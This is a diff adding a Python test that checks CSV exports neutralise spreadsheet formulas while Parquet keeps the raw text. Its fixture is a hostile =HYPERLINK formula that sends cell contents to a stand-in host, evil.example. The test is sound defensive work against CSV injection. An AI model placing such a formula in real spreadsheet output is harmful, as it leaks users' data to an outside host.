@@ -117,3 +117,14 @@ def test_the_tables_folder_is_readable_by_others_as_the_umask_allows(tmp_path):
     finally:
         os.umask(previous)
     assert stat.S_IMODE(out.stat().st_mode) == 0o755
+
+
+def test_csv_files_are_spreadsheet_safe_and_parquet_keeps_the_text(tmp_path):
+    out = tmp_path / "processed"
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    frames = {"rejected": pd.DataFrame({"source_path": pd.array([hostile, "-2 dead.txt"], dtype="string"), "reason": ["b", "c"]})}
+    store.write_tables_atomically(out, frames, {"articles": 0})
+    csv = (out / "rejected.csv").read_bytes()
+    assert csv.startswith(b"\xef\xbb\xbf") and b"\r\n" in csv
+    assert pd.read_csv(out / "rejected.csv", encoding="utf-8-sig")["source_path"].tolist() == ["'" + hostile, "'-2 dead.txt"]
+    assert pd.read_parquet(out / "rejected.parquet")["source_path"].tolist() == [hostile, "-2 dead.txt"]
